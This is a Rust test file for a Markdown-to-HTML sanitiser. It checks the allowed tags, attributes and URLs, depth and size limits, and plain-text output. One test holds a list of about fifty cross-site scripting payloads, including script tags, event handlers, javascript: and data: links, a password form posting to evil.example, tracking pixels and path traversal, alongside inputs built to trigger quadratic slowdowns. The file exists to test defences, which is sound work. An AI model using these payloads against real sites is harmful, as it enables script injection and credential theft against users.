//! Whatever people enter, what comes out has these elements, attributes and addresses alone.

use super::{MAX_DEPTH, MAX_HTML_BYTES, TAGS, plain_text, render};

const IMAGE: &str = "/images/0190f5a0-7c1e-7d34-9b1f-3a5c1a2b3c4d/800";

/// An element of HTML as it is serialised: its name, and its attributes with their values.
type Element = (String, Vec<(String, String)>);

/// Reads serialised HTML: every `<` that is not in the value of an attribute begins an element.
fn elements(html: &str) -> Vec<Element> {
    let (mut found, mut rest) = (Vec::new(), html);
    while let Some((_, tag)) = rest.split_once('<') {
        let end = tag.find(|c: char| c.is_whitespace() || c == '>').expect("a tag ends");
        let name = tag[..end].trim_start_matches('/').to_owned();
        rest = &tag[end..];
        let mut attributes = Vec::new();
        while !rest.starts_with('>') {
            let (attribute, after) =
                rest.trim_start().split_once("=\"").expect("a value in quotes");
            let (value, after) = after.split_once('"').expect("a value ends");
            attributes.push((attribute.to_owned(), value.to_owned()));
            rest = after;
        }
        found.push((name, attributes));
    }
    found
}

#[track_caller]
fn expect_safe(source: &str, html: &str) {
    for (name, attributes) in elements(html) {
        assert!(TAGS.contains(&&*name), "{source:?}: <{name}> in {html}");
        for (attribute, value) in attributes {
            let is_good = match (&*name, &*attribute) {
                ("a", "href") => {
                    ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|it| value.to_lowercase().starts_with(it))
                        || (value.starts_with('/') && !value.starts_with("//"))
                }
                ("a", "rel") => value == "nofollow noopener ugc",
                ("img", "src") => value.starts_with("/images/") && !value.contains(".."),
                ("a" | "img", "title") | ("img", "alt") => true,
                ("ol", "start") => value.bytes().all(|byte| byte.is_ascii_digit()),
                _ => false,
            };
            assert!(is_good, "{source:?}: {attribute}={value:?} in {html}");
        }
    }
}

#[test]
fn nothing_that_could_run_or_load_comes_out() {
    let nasty = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=//evil.example/x.swf>",
        "<embed src=//evil.example/x.swf>",
        "<form action=//evil.example><input name=password></form>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=https://good.example onclick=alert(1)>x</a>",
        "<style>*{background:url(//evil.example)}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[><script>alert(1)</script>]]>",
        "<?xml-stylesheet href=javascript:alert(1)?>",
        "<div style=\"position:fixed;inset:0\">x</div>",
        "<scr<script>ipt>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox(1))",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](https://a.example \"\\\"onmouseover=alert(1)\\\"\")",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "![x](https://evil.example/pixel.gif)",
        "![x](//evil.example/pixel.gif)",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x](/images/../api/auth/logout)",
        "![x](/images/0190f5a0-7c1e-7d34-9b1f-3a5c1a2b3c4d/../../x)",
        "![\"onerror=alert(1) x=\"](/images/0190f5a0-7c1e-7d34-9b1f-3a5c1a2b3c4d/800)",
        "![a ![b](https://evil.example) c](https://evil.example/2)",
        "`<script>alert(1)</script>`",
        "```html onload=alert(1)\n<script>alert(1)</script>\n```",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "| a | <script> |\n|---|---|\n| 1 | 2 |",
        "x[^1]\n\n[^1]: <script>alert(1)</script>",
        "\u{202e}<script>\u{0}",
    ];
    assert!(nasty.len() >= 40);
    for source in nasty {
        let html = render(source).unwrap_or_else(|error| panic!("{source}: {error}"));
        expect_safe(source, &html);
        assert!(!html.contains("<script"), "{source}: {html}");
    }
}

#[test]
fn what_authors_mean_is_rendered() {
    for (source, html) in [
        (
            "# One\n\ntwo **three** *four* ~~five~~",
            "<h1>One</h1>\n<p>two <strong>three</strong> <em>four</em> <del>five</del></p>\n",
        ),
        ("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"),
        (
            "[x](https://a.example)",
            "<p><a href=\"https://a.example\" rel=\"nofollow noopener ugc\">x</a></p>\n",
        ),
        ("[x](/events/1)", "<p><a href=\"/events/1\" rel=\"nofollow noopener ugc\">x</a></p>\n"),
        ("a <b> c", "<p>a &lt;b&gt; c</p>\n"),
        ("![far](https://evil.example)", "<p>far</p>\n"),
        ("햄릿 🎭", "<p>햄릿 🎭</p>\n"),
    ] {
        assert_eq!(render(source).as_deref(), Ok(html), "{source}");
    }
    let own = render(&format!("![stage]({IMAGE})")).expect("a picture");
    assert_eq!(own, format!("<p><img src=\"{IMAGE}\" alt=\"stage\"></p>\n"));
}

#[test]
fn nesting_is_bounded_and_so_is_what_comes_out() {
    for deep in [">".repeat(50_000), "- ".repeat(25_000), "*a **b ".repeat(7_000)] {
        let rendered = render(&deep);
        assert!(rendered.as_ref().map_or(true, |html| html.len() <= MAX_HTML_BYTES));
        if let Ok(html) = rendered {
            expect_safe("deep", &html);
        }
    }
    let refused = render(&format!("{} x", ">".repeat(MAX_DEPTH + 1))).expect_err("too deep");
    assert_eq!(refused.field, "content");
    assert!(render(&format!("{} x", "> ".repeat(MAX_DEPTH - 1))).is_ok());
}

#[test]
fn input_that_is_quadratic_elsewhere_stays_small() {
    let definition = format!("[a]: https://a.example/{}\n\n", "x".repeat(20_000));
    for source in [
        definition + &"[a] ".repeat(7_000),
        format!("|{}\n|{}\n{}", "a|".repeat(8_000), "-|".repeat(8_000), "|\n".repeat(8_000)),
        "[".repeat(50_000),
        "![".repeat(25_000),
        "`a".repeat(25_000),
        "<".repeat(50_000),
        "<!--".repeat(12_500),
        "a_b*".repeat(12_500),
        "&".repeat(10_000),
        "\"".repeat(50_000),
    ] {
        let html = render(&source).unwrap_or_else(|error| panic!("{}: {error}", &source[..9]));
        assert!(html.len() < MAX_HTML_BYTES / 2, "{}: {} bytes", &source[..9], html.len());
    }
}

#[test]
fn the_plain_text_has_the_words_alone() {
    let source = "# Title\n\nOne **two**\nthree [four](https://a.example).\n\n- five\n- `six`\n\n![seven](x)";
    assert_eq!(plain_text(source), "Title One two three four. five six seven");
    assert_eq!(plain_text("가**나**다"), "가나다");
}
